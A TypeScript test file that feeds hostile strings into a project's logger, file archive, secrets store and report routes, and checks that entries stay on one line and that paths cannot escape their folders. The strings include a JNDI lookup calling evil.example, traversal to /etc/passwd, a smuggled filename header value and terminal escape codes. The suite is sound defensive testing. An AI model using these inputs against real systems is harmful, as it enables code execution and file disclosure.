import { mkdtempSync, readdirSync, rmSync, statSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { plain } from "../../infra/cli/show.ts";
import { workspaceKey } from "../../infra/local/workspace.ts";
import { fileArchive } from "../../shared/adapters/sqlite/archive.ts";
import { openDatabase } from "../../shared/adapters/sqlite/database.ts";
import { environmentSecrets } from "../../shared/adapters/sqlite/secrets.ts";
import { jsonLog, quietLog } from "../../shared/platform/log.ts";
import { corpusRows } from "../connector/corpus.ts";
import { sampleApp, sampleHub } from "../web/sample-hub.ts";

const root = mkdtempSync(join(tmpdir(), "throughline-places-"));
afterAll(() => rmSync(root, { recursive: true, force: true }));

const OWN = [
  "\u001b[2J\u001b[1;31mALERT",
  "a\r\nb",
  "a\u2028b\u2029c\u0085d",
  '","level":"fatal","message":"x',
  `$${"{jndi:ldap://evil.example/a}"}`,
  "\u202egnp.exe",
  "../../../etc/passwd",
  "..\\..\\x",
  "a\u0000.csv",
  'x"; filename="y.exe',
  "__proto__",
  "CON",
];
const NAMES = [...OWN, ...corpusRows<{ s: string }>("channel.injection.jsonl").map(({ s }) => s)];
const HOSTILE = [
  ...NAMES,
  ...corpusRows<{ s?: unknown }>("strings.blns.jsonl").flatMap(({ s }) => (typeof s === "string" ? [s] : [])),
];

describe("text of strangers in a log", () => {
  it("T25 stays one line of JSON for each entry, in its own field", () => {
    for (const text of HOSTILE) {
      const lines: string[] = [];
      jsonLog(
        () => new Date(0),
        (line) => lines.push(line),
      ).warn({ connection: text, deliveryId: text, reason: text }, "webhook refused");
      const [line = ""] = lines;
      expect(line).toMatch(/^\{[^\r\n]*\}\n$/);
      expect(line).not.toMatch(/[\p{Cc}](?<!\n)/u);
      const { reason, ...entry } = JSON.parse(line) as { readonly reason: string };
      expect(entry).toEqual({
        time: "1970-01-01T00:00:00.000Z",
        level: "warn",
        message: "webhook refused",
        connection: reason,
        deliveryId: reason,
      });
      // Of addresses nothing stays.
      if (text.includes("@")) expect(reason).not.toMatch(/\w@\w+\.\w/);
      else expect(reason).toBe(text.slice(0, 500));
    }
  });

  it("T25 moves no cursor and colours nothing on a terminal", () => {
    for (const text of HOSTILE) {
      expect(plain(text)).not.toMatch(/[\p{Cc}\p{Cf}]/u);
      const lines: string[] = [];
      quietLog((line) => lines.push(line)).warn({ connection: text, reason: text }, "failed");
      expect(lines.join("")).not.toMatch(/[\p{Cc}\p{Cf}](?<!\n$)/u);
    }
  });
});

describe("text of strangers in names of files", () => {
  it("T34 leads nowhere but into the archive's own folder", async () => {
    const archive = fileArchive(join(root, "archive"));
    const bytes = new Uint8Array([1]);
    const digest = "0".repeat(64);
    for (const text of NAMES) {
      const note = {
        connectionId: text,
        receivedAt: "2026-03-02T10:00:00.000Z",
        what: "webhook",
        headers: {},
      } as const;
      await archive.put(note, bytes).catch(() => {});
      for (const ref of [text, `${text}/2026-03-02/${digest}`, `acme/${text}/x-${digest}`])
        await expect(archive.get(ref)).rejects.toThrow();
    }
    // A payload that is whole, beside the archive.
    const note = {
      connectionId: "acme",
      receivedAt: "2026-03-02T10:00:00.000Z",
      what: "webhook",
      headers: {},
    } as const;
    const beside = await fileArchive(join(root, "archive", "other")).put(note, bytes);
    await expect(fileArchive(join(root, "archive", "acme")).get(`../other/${beside}`)).rejects.toThrow(
      "not an archive",
    );
    const folders = readdirSync(join(root, "archive"));
    expect(folders.filter((name) => !/^[\w-][\w.-]*$/.test(name))).toEqual([]);
    expect(readdirSync(root)).toEqual(["archive"]);
  });

  it("T34 leads nowhere but into the folder of secrets", async () => {
    const folder = join(root, "kept", "secrets");
    const secrets = environmentSecrets({}, join(root, "kept", ".env"), folder);
    for (const name of OWN.filter((one) => !one.includes("\u0000"))) {
      await secrets.put(name, "value");
      expect(await secrets.get(name)).toBe("value");
    }
    expect(readdirSync(dirname(folder))).toEqual(["secrets"]);
  });

  it("T34 names no report's file, and no header of a download", async () => {
    const app = sampleApp(sampleHub(0));
    for (const text of NAMES) {
      const name = encodeURIComponent(text.toWellFormed().slice(0, 200));
      for (const path of [`/v1/reports/${name}/runs/1.csv`, `/v1/reports/weekly/runs/${name}.csv`]) {
        const { status, headers } = await app.request(path);
        expect([path, status >= 400 && status < 500]).toEqual([path, true]);
        expect(headers.get("content-disposition")).toBeNull();
      }
    }
  });
});

describe("what a hub on one machine keeps", () => {
  it("T27 is for its owner alone: folders, payloads, secrets and keys", async () => {
    const folder = join(root, "hub");
    openDatabase(folder).close();
    const archive = fileArchive(join(folder, "archive"));
    const note = {
      connectionId: "acme",
      receivedAt: "2026-03-02T10:00:00.000Z",
      what: "webhook",
      headers: {},
    } as const;
    const ref = await archive.put(note, new Uint8Array([1]));
    const secrets = environmentSecrets({}, join(folder, ".env"), join(folder, "secrets"));
    await secrets.put("JIRA_TOKEN", "value");
    workspaceKey(folder);
    const kept = [
      folder,
      join(folder, "archive", `${ref}.zst`),
      join(folder, "archive", "acme"),
      join(folder, "secrets"),
      join(folder, "secrets", "JIRA_TOKEN.secret"),
      join(folder, "workspace.key"),
    ];
    for (const path of kept) expect([path, (statSync(path).mode & 0o077).toString(8)]).toEqual([path, "0"]);
  });
});
